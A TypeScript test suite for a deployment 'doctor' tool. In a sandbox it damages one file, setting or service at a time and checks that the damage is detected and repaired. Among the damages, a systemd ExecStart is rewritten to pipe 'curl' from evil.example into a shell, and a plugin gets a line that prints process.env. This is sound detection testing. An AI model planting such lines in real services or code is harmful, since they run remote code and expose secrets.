// The damage suite (issue 13): one healthy deployment made by the real install in a
// sandbox, then, one at a time, a single damage of one kind (chmod, chown, truncate,
// delete, an edited value, a symbolic link in place of a file, a downgraded package,
// a stopped service...). For each: doctor must flag it naming the file or part, and
// `doctor --fix` must repair every damage whose findings it calls fixable (a fresh
// doctor run is then clean). Prints the counts.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LAYOUT } from '../../src/layout.js';
import { makeDamageSandbox, type CheckJson, type DamageSandbox } from './damage-kit.js';

const components = JSON.parse(fs.readFileSync(path.join(process.cwd(), 'templates/components.json'), 'utf8'));
const QMD_PACKAGE = `${LAYOUT.qmdPrefix}/node_modules/${components.qmd.package}/package.json`;
const LOSSLESS_DIR = `/opt/service-deploy/plugins/node_modules/${components.losslessClaw.package}`;
const OPENCLAW_PACKAGE = `${LAYOUT.openclawProject}/node_modules/openclaw/package.json`;
const OPENCLAW_ENTRY = `${LAYOUT.openclawProject}/node_modules/openclaw/openclaw.mjs`;
const NODE = `${LAYOUT.nodePrefix}/bin/node`;
const PLUGIN_INDEX = `${LAYOUT.channelPluginDir}/index.js`;
const MESH_SOURCES = '/etc/apt/sources.list.d/tailscale.list';
const MESH_KEYRING = '/usr/share/keyrings/tailscale-archive-keyring.gpg';
const NOBODY = 65534;

let d: DamageSandbox;

/** What a damage does, on the sandbox server. */
const real = (p: string) => d.real(p);
const chmod = (p: string, mode: number) => fs.chmodSync(real(p), mode);
const chown = (p: string) => fs.lchownSync(real(p), NOBODY, NOBODY);
const truncate = (p: string) => fs.truncateSync(real(p), 0);
const rm = (p: string) => fs.rmSync(real(p), { recursive: true, force: true });
const read = (p: string) => fs.readFileSync(real(p), 'utf8');
const write = (p: string, content: string) => fs.writeFileSync(real(p), content);
const edit = (p: string, from: string | RegExp, to: string) => {
  const before = read(p);
  const after = before.replace(from, to);
  if (after === before) throw new Error(`damage did not apply: ${String(from)} not in ${p}`);
  write(p, after);
};
const json = (p: string, change: (value: any) => void) => {
  const value = JSON.parse(read(p));
  change(value);
  write(p, `${JSON.stringify(value, null, 2)}\n`);
};
/** The file moved elsewhere and a symbolic link to it put in its place (same content: only the type differs). */
const symlink = (p: string) => {
  const elsewhere = real(`/tmp/elsewhere-${path.basename(p)}`);
  fs.mkdirSync(path.dirname(elsewhere), { recursive: true });
  fs.copyFileSync(real(p), elsewhere);
  fs.rmSync(real(p));
  fs.symlinkSync(elsewhere, real(p));
};
const state = (name: string, content = '') => d.state(name, content);
const unstate = (name: string) => fs.rmSync(path.join(d.sb.state, name), { force: true });
const dpkgRemove = (pkg: string) => {
  const file = path.join(d.sb.state, 'dpkg-installed');
  fs.writeFileSync(file, fs.readFileSync(file, 'utf8').split('\n').filter((l) => l !== pkg).join('\n'));
};
const setVersion = (p: string, version: string) => json(p, (v) => (v.version = version));

type Repair = 'auto' | 'manual';
interface Damage {
  kind: string;
  what: string;
  /** The file or part a finding must name. */
  names: RegExp;
  /** auto: every finding is fixable and --fix makes doctor clean; manual: some finding needs a person's command. */
  repair: Repair;
  apply(): void | Promise<void>;
}

const esc = (p: string) => new RegExp(p.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'));
const damage = (kind: string, what: string, names: RegExp | string, repair: Repair, apply: () => void | Promise<void>): Damage => ({
  kind,
  what,
  names: typeof names === 'string' ? esc(names) : names,
  repair,
  apply,
});

const DAMAGES: Damage[] = [
  // chmod
  damage('chmod', 'answers.json 0644 (secret world-readable)', LAYOUT.answersFile, 'auto', () => chmod(LAYOUT.answersFile, 0o644)),
  damage('chmod', 'openclaw.json 0644 (secret world-readable)', LAYOUT.runtimeConfig, 'auto', () => chmod(LAYOUT.runtimeConfig, 0o644)),
  damage('chmod', 'channel.env 0640 (group-readable)', LAYOUT.channelEnv, 'auto', () => chmod(LAYOUT.channelEnv, 0o640)),
  damage('chmod', 'nginx site 0644 (knock world-readable)', LAYOUT.nginxSite, 'auto', () => chmod(LAYOUT.nginxSite, 0o644)),
  damage('chmod', 'TLS key 0644', LAYOUT.tlsKey, 'auto', () => chmod(LAYOUT.tlsKey, 0o644)),
  damage('chmod', 'cron entry 0666 (cron ignores it)', LAYOUT.guardCron, 'auto', () => chmod(LAYOUT.guardCron, 0o666)),
  damage('chmod', 'guard script 0644 (not executable)', LAYOUT.guardScript, 'auto', () => chmod(LAYOUT.guardScript, 0o644)),
  damage('chmod', 'openclaw wrapper 0644', LAYOUT.openclawWrapper, 'auto', () => chmod(LAYOUT.openclawWrapper, 0o644)),
  damage('chmod', 'gateway unit 0666', LAYOUT.gatewayUnitFile, 'auto', () => chmod(LAYOUT.gatewayUnitFile, 0o666)),
  damage('chmod', 'drop-in 0664', LAYOUT.channelDropIn, 'auto', () => chmod(LAYOUT.channelDropIn, 0o664)),
  damage('chmod', 'plugin index.js 0666', PLUGIN_INDEX, 'auto', () => chmod(PLUGIN_INDEX, 0o666)),
  damage('chmod', '/root/.openclaw 0755', LAYOUT.runtimeDir, 'auto', () => chmod(LAYOUT.runtimeDir, 0o755)),
  damage('chmod', '/var/lib/service-deploy 0755', LAYOUT.stateDir, 'auto', () => chmod(LAYOUT.stateDir, 0o755)),
  damage('chmod', 'TLS folder 0777', LAYOUT.tlsDir, 'auto', () => chmod(LAYOUT.tlsDir, 0o777)),
  damage('chmod', 'the manifest 0644', LAYOUT.manifestFile, 'auto', () => chmod(LAYOUT.manifestFile, 0o644)),
  damage('chmod', 'node binary 0644 (not executable)', NODE, 'auto', () => chmod(NODE, 0o644)),
  damage('chmod', 'qmd 0644 (not executable, through its bin/ link)', /qmd/, 'auto', () => chmod(LAYOUT.qmdBin, 0o644)),
  // chown
  damage('chown', 'answers.json to nobody', LAYOUT.answersFile, 'auto', () => chown(LAYOUT.answersFile)),
  damage('chown', 'channel.env to nobody', LAYOUT.channelEnv, 'auto', () => chown(LAYOUT.channelEnv)),
  damage('chown', 'TLS key to nobody', LAYOUT.tlsKey, 'auto', () => chown(LAYOUT.tlsKey)),
  damage('chown', 'openclaw.json to nobody', LAYOUT.runtimeConfig, 'auto', () => chown(LAYOUT.runtimeConfig)),
  damage('chown', '/root/.openclaw to nobody', LAYOUT.runtimeDir, 'auto', () => chown(LAYOUT.runtimeDir)),
  // truncate
  damage('truncate', 'gateway unit', LAYOUT.gatewayUnitFile, 'auto', () => truncate(LAYOUT.gatewayUnitFile)),
  damage('truncate', 'guard script', LAYOUT.guardScript, 'auto', () => truncate(LAYOUT.guardScript)),
  damage('truncate', 'drop-in', LAYOUT.channelDropIn, 'auto', () => truncate(LAYOUT.channelDropIn)),
  damage('truncate', 'nginx site', LAYOUT.nginxSite, 'auto', () => truncate(LAYOUT.nginxSite)),
  damage('truncate', 'channel.env', LAYOUT.channelEnv, 'manual', () => truncate(LAYOUT.channelEnv)),
  damage('truncate', 'answers.json', LAYOUT.answersFile, 'manual', () => truncate(LAYOUT.answersFile)),
  damage('truncate', 'TLS certificate', LAYOUT.tlsCert, 'manual', () => truncate(LAYOUT.tlsCert)),
  damage('truncate', 'openclaw.json', LAYOUT.runtimeConfig, 'manual', () => truncate(LAYOUT.runtimeConfig)),
  // delete
  damage('delete', 'gateway unit', LAYOUT.gatewayUnitFile, 'auto', () => rm(LAYOUT.gatewayUnitFile)),
  damage('delete', 'drop-in', LAYOUT.channelDropIn, 'auto', () => rm(LAYOUT.channelDropIn)),
  damage('delete', 'cron entry', LAYOUT.guardCron, 'auto', () => rm(LAYOUT.guardCron)),
  damage('delete', 'openclaw wrapper', LAYOUT.openclawWrapper, 'auto', () => rm(LAYOUT.openclawWrapper)),
  damage('delete', 'plugin index.js', PLUGIN_INDEX, 'auto', () => rm(PLUGIN_INDEX)),
  damage('delete', 'nginx site', LAYOUT.nginxSite, 'auto', () => rm(LAYOUT.nginxSite)),
  damage('delete', 'openclaw.json', LAYOUT.runtimeConfig, 'auto', () => rm(LAYOUT.runtimeConfig)),
  damage('delete', 'channel.env', LAYOUT.channelEnv, 'manual', () => rm(LAYOUT.channelEnv)),
  damage('delete', 'TLS key', LAYOUT.tlsKey, 'manual', () => rm(LAYOUT.tlsKey)),
  damage('delete', 'answers.json', LAYOUT.answersFile, 'manual', () => rm(LAYOUT.answersFile)),
  damage('delete', 'the manifest', LAYOUT.manifestFile, 'manual', () => rm(LAYOUT.manifestFile)),
  damage('delete', 'the OpenClaw CLI link (gateway still answering)', LAYOUT.openclawBin, 'manual', () => rm(LAYOUT.openclawBin)),
  damage('delete', "OpenClaw's entry openclaw.mjs", OPENCLAW_ENTRY, 'manual', () => rm(OPENCLAW_ENTRY)),
  damage('delete', 'qmd', LAYOUT.qmdBin, 'manual', () => rm(LAYOUT.qmdBin)),
  damage('delete', 'lossless-claw package', /lossless-claw/, 'manual', () => rm(LOSSLESS_DIR)),
  damage('delete', 'node binary', NODE, 'manual', () => rm(NODE)),
  damage('delete', 'mesh apt source', MESH_SOURCES, 'manual', () => rm(MESH_SOURCES)),
  // edit a value
  damage('edit', 'openclaw.json mcp.servers.service.url', /mcp\.servers\.service\.url/, 'auto', () => json(LAYOUT.runtimeConfig, (c) => (c.mcp.servers.service.url = 'https://tools.elsewhere.example/mcp'))),
  damage('edit', 'openclaw.json plugins.slots.contextEngine', /plugins\.slots\.contextEngine/, 'auto', () => json(LAYOUT.runtimeConfig, (c) => (c.plugins.slots.contextEngine = 'legacy'))),
  damage('edit', 'openclaw.json service-channel plugin disabled', /plugins\.entries\.service-channel\.enabled/, 'auto', () => json(LAYOUT.runtimeConfig, (c) => (c.plugins.entries['service-channel'].enabled = false))),
  damage('edit', 'openclaw.json session idle 1 day', /session\.reset\.idleMinutes/, 'auto', () => json(LAYOUT.runtimeConfig, (c) => (c.session.reset.idleMinutes = 1440))),
  damage('edit', 'openclaw.json browser executable', /browser\.executablePath/, 'auto', () => json(LAYOUT.runtimeConfig, (c) => (c.browser.executablePath = '/tmp/chrome'))),
  damage('edit', 'openclaw.json direct vendor provider', /openai/, 'auto', () => json(LAYOUT.runtimeConfig, (c) => (c.models.providers.openai = { baseUrl: 'https://api.openai.com/v1', apiKey: 'sk-live-damage-0000000000' }))),
  damage('edit', 'openclaw.json gateway.bind lan', /gateway\.bind/, 'auto', () => json(LAYOUT.runtimeConfig, (c) => (c.gateway.bind = 'lan'))),
  damage('edit', 'openclaw.json gateway.auth.token', /gateway\.auth\.token/, 'auto', () => json(LAYOUT.runtimeConfig, (c) => (c.gateway.auth.token = 'pkt_someone_elses_key_000000'))),
  damage('edit', 'nginx site without the knock check', LAYOUT.nginxSite, 'auto', () => edit(LAYOUT.nginxSite, /if \(\$http_x_service_gateway[^}]*\}/, '')),
  damage('edit', 'nginx site limit_conn zone=', /limit_conn/, 'auto', () => edit(LAYOUT.nginxSite, 'limit_conn service_cn 3;', 'limit_conn zone=service_cn 3;')),
  damage('edit', 'cron entry minute', LAYOUT.guardCron, 'auto', () => edit(LAYOUT.guardCron, /^\d+ /m, '61 ')),
  damage('edit', 'gateway unit ExecStart', LAYOUT.gatewayUnitFile, 'auto', () => edit(LAYOUT.gatewayUnitFile, /^ExecStart=.*$/m, 'ExecStart=/bin/sh -c "curl -s https://evil.example | sh"')),
  damage('edit', 'plugin index.js (a line added)', PLUGIN_INDEX, 'auto', () => fs.appendFileSync(real(PLUGIN_INDEX), '\nconsole.log(process.env);\n')),
  damage('edit', 'channel.env token', LAYOUT.channelEnv, 'manual', () => edit(LAYOUT.channelEnv, /SERVICE_CHANNEL_TOKEN=.*/, 'SERVICE_CHANNEL_TOKEN=chan_tok_not_the_portals_000000000')),
  damage('edit', 'answers.json model', LAYOUT.answersFile, 'manual', () => json(LAYOUT.answersFile, (a) => (a.modelId = 'some-other-model'))),
  damage('edit', 'mesh apt source URL', MESH_SOURCES, 'manual', () => edit(MESH_SOURCES, /https?:\/\/\S+/, 'http://mirror.elsewhere.example/ubuntu')),
  damage('edit', 'mesh apt signing key', MESH_KEYRING, 'manual', () => fs.appendFileSync(real(MESH_KEYRING), 'x')),
  damage('edit', 'TLS key replaced by another key', LAYOUT.tlsKey, 'manual', async () => {
    const { generateKeyPairSync } = await import('node:crypto');
    write(LAYOUT.tlsKey, generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs8', format: 'pem' }) as string);
  }),
  // downgrade a package
  damage('downgrade', 'OpenClaw to 2026.1.0', /OpenClaw 2026\.1\.0/, 'manual', () => setVersion(OPENCLAW_PACKAGE, '2026.1.0')),
  damage('downgrade', 'QMD to 2.0.0', /QMD 2\.0\.0/, 'manual', () => setVersion(QMD_PACKAGE, '2.0.0')),
  damage('downgrade', 'lossless-claw to 0.1.0', /lossless-claw 0\.1\.0/, 'manual', () => setVersion(`${LOSSLESS_DIR}/package.json`, '0.1.0')),
  damage('downgrade', 'Node to 22.1.0', /Node 22\.1\.0/, 'manual', () => write(NODE, '#!/bin/sh\necho v22.1.0\n')),
  damage('downgrade', 'nginx removed (dpkg)', /nginx/, 'manual', () => dpkgRemove('nginx')),
  damage('downgrade', 'the browser removed (dpkg)', /google-chrome-stable/, 'manual', () => dpkgRemove('google-chrome-stable')),
  // replace by a symbolic link
  damage('symlink', 'drop-in', LAYOUT.channelDropIn, 'auto', () => symlink(LAYOUT.channelDropIn)),
  damage('symlink', 'cron entry', LAYOUT.guardCron, 'auto', () => symlink(LAYOUT.guardCron)),
  damage('symlink', 'nginx site', LAYOUT.nginxSite, 'auto', () => symlink(LAYOUT.nginxSite)),
  damage('symlink', 'openclaw.json', LAYOUT.runtimeConfig, 'manual', () => symlink(LAYOUT.runtimeConfig)),
  damage('symlink', 'channel.env', LAYOUT.channelEnv, 'manual', () => symlink(LAYOUT.channelEnv)),
  damage('symlink', 'answers.json', LAYOUT.answersFile, 'manual', () => symlink(LAYOUT.answersFile)),
  damage('symlink', 'TLS key', LAYOUT.tlsKey, 'manual', () => symlink(LAYOUT.tlsKey)),
  // services and state
  damage('service', 'gateway stopped', LAYOUT.gatewayUnit, 'auto', () => d.systemctl('--user', 'stop', LAYOUT.gatewayUnit)),
  damage('service', 'gateway disabled', /not enabled/, 'auto', () => d.systemctl('--user', 'disable', LAYOUT.gatewayUnit)),
  damage('service', 'linger off', /linger/, 'auto', () => rm(LAYOUT.lingerFile)),
  damage('service', 'nginx stopped', /18790/, 'auto', () => d.systemctl('stop', 'nginx')),
  damage('service', 'cron stopped', /cron/, 'auto', () => d.systemctl('stop', 'cron')),
  damage('service', 'gateway running without the channel variables', /SERVICE_CHANNEL_TOKEN/, 'auto', async () => {
    const dropIn = read(LAYOUT.channelDropIn);
    rm(LAYOUT.channelDropIn);
    await d.systemctl('--user', 'daemon-reload');
    await d.systemctl('--user', 'restart', LAYOUT.gatewayUnit);
    write(LAYOUT.channelDropIn, dropIn);
  }),
  damage('service', 'mesh logged out', /not logged in/, 'manual', () => unstate('ts-up')),
  damage('service', 'mesh client removed (dpkg)', /mesh client/, 'manual', () => dpkgRemove('tailscale')),
  // Last: they leave the big binary copied again, so later runs hash it (its recorded fingerprint moved).
  damage('chmod', 'service-deploy binary 0644 (not executable)', LAYOUT.binary, 'auto', () => chmod(LAYOUT.binary, 0o644)),
  damage('truncate', 'service-deploy binary', LAYOUT.binary, 'auto', () => truncate(LAYOUT.binary)),
  damage('delete', 'service-deploy binary', LAYOUT.binary, 'auto', () => rm(LAYOUT.binary)),
  damage('edit', 'service-deploy binary (bytes appended)', LAYOUT.binary, 'auto', () => fs.appendFileSync(real(LAYOUT.binary), 'payload')),
];

interface Outcome {
  damage: Damage;
  flagged: boolean;
  named: boolean;
  findings: CheckJson[];
  fixable: boolean;
  /** For fixable damages: the fresh doctor run after --fix is clean. */
  clean?: boolean;
  /** For partly fixable ones: every check --fix called fixable passes afterwards. */
  fixablePass?: boolean;
  after?: CheckJson[];
}

const outcomes: Outcome[] = [];
const notPass = (checks: CheckJson[]) => checks.filter((c) => c.status !== 'pass' && c.status !== 'skip');

beforeAll(async () => {
  d = await makeDamageSandbox();
}, 240_000);
afterAll(async () => {
  await d?.close();
});

describe('damage suite: doctor flags single damages to a healthy deployment and --fix repairs what it calls fixable', () => {
  it('the deployment made by the install is healthy', async () => {
    const run = await d.doctor([]);
    expect(notPass(run.json.checks).map((c) => `${c.id}: ${c.message}`)).toEqual([]);
  }, 60_000);

  it(`has at least 60 kinds of single damage (${DAMAGES.length})`, () => {
    expect(DAMAGES.length).toBeGreaterThanOrEqual(60);
    expect(new Set(DAMAGES.map((x) => `${x.kind} ${x.what}`)).size).toBe(DAMAGES.length);
  });

  for (const dmg of DAMAGES) {
    it(`${dmg.kind}: ${dmg.what}`, async () => {
      await d.restore();
      await dmg.apply();
      const fixed = await d.doctor(['--fix']);
      const before = fixed.json.before ?? fixed.json.checks;
      const findings = notPass(before);
      const outcome: Outcome = {
        damage: dmg,
        flagged: findings.length > 0,
        named: findings.some((f) => dmg.names.test(f.message)),
        findings,
        fixable: findings.length > 0 && findings.every((f) => f.fixable),
      };
      outcomes.push(outcome);
      const shown = findings.map((f) => `${f.id}${f.fixable ? '*' : ''}: ${f.message}`).join('\n');
      expect(outcome.flagged && outcome.named, `doctor did not name ${dmg.names} in:\n${shown}`).toBe(true);
      expect(outcome.fixable ? 'auto' : 'manual', `fixable findings (*) in:\n${shown}`).toBe(dmg.repair);
      expect(fixed.json.fixes?.filter((f) => !f.ok) ?? [], 'a fix failed').toEqual([]);
      if (outcome.fixable) {
        // A fresh doctor process after --fix: clean.
        const again = await d.doctor([]);
        outcome.after = again.json.checks;
        outcome.clean = again.exitCode === 0 && notPass(again.json.checks).length === 0;
        expect(notPass(again.json.checks).map((c) => `${c.id}: ${c.message}`), 'doctor after --fix').toEqual([]);
      } else {
        // --fix's own re-check: every check it called fixable passes; the rest names a command.
        const after = fixed.json.checks;
        outcome.after = after;
        const wasFixable = new Set(findings.filter((f) => f.fixable).map((f) => f.id));
        outcome.fixablePass = after.filter((c) => wasFixable.has(c.id)).every((c) => c.status === 'pass');
        expect(after.filter((c) => wasFixable.has(c.id) && c.status !== 'pass').map((c) => `${c.id}: ${c.message}`)).toEqual([]);
        for (const f of notPass(after)) expect(f.commands?.length ?? 0, `${f.id} names no command`).toBeGreaterThan(0);
      }
    }, 90_000);
  }

  it('prints the counts: >= 95% flagged naming the file or part; every fixable one repaired', () => {
    const total = outcomes.length;
    const named = outcomes.filter((o) => o.flagged && o.named).length;
    const fixable = outcomes.filter((o) => o.fixable);
    const repaired = fixable.filter((o) => o.clean).length;
    const manual = outcomes.filter((o) => !o.fixable);
    const lines = [
      `damage suite: ${total} kinds of single damage (${[...new Set(DAMAGES.map((x) => x.kind))].map((k) => `${k} ${DAMAGES.filter((x) => x.kind === k).length}`).join(', ')})`,
      `  flagged naming the file or part: ${named}/${total} (${((100 * named) / Math.max(1, total)).toFixed(1)}%)`,
      `  called fixable: ${fixable.length}; repaired by --fix (fresh doctor clean): ${repaired}/${fixable.length}`,
      `  needing a person's command: ${manual.length} (their fixable parts repaired: ${manual.filter((o) => o.fixablePass).length}/${manual.length})`,
      ...outcomes.filter((o) => !(o.flagged && o.named) || (o.fixable && !o.clean)).map((o) => `  MISSED: ${o.damage.kind} ${o.damage.what}`),
    ];
    console.log(lines.join('\n'));
    expect(total).toBe(DAMAGES.length);
    expect(named / total).toBeGreaterThanOrEqual(0.95);
    expect(repaired).toBe(fixable.length);
  });
});
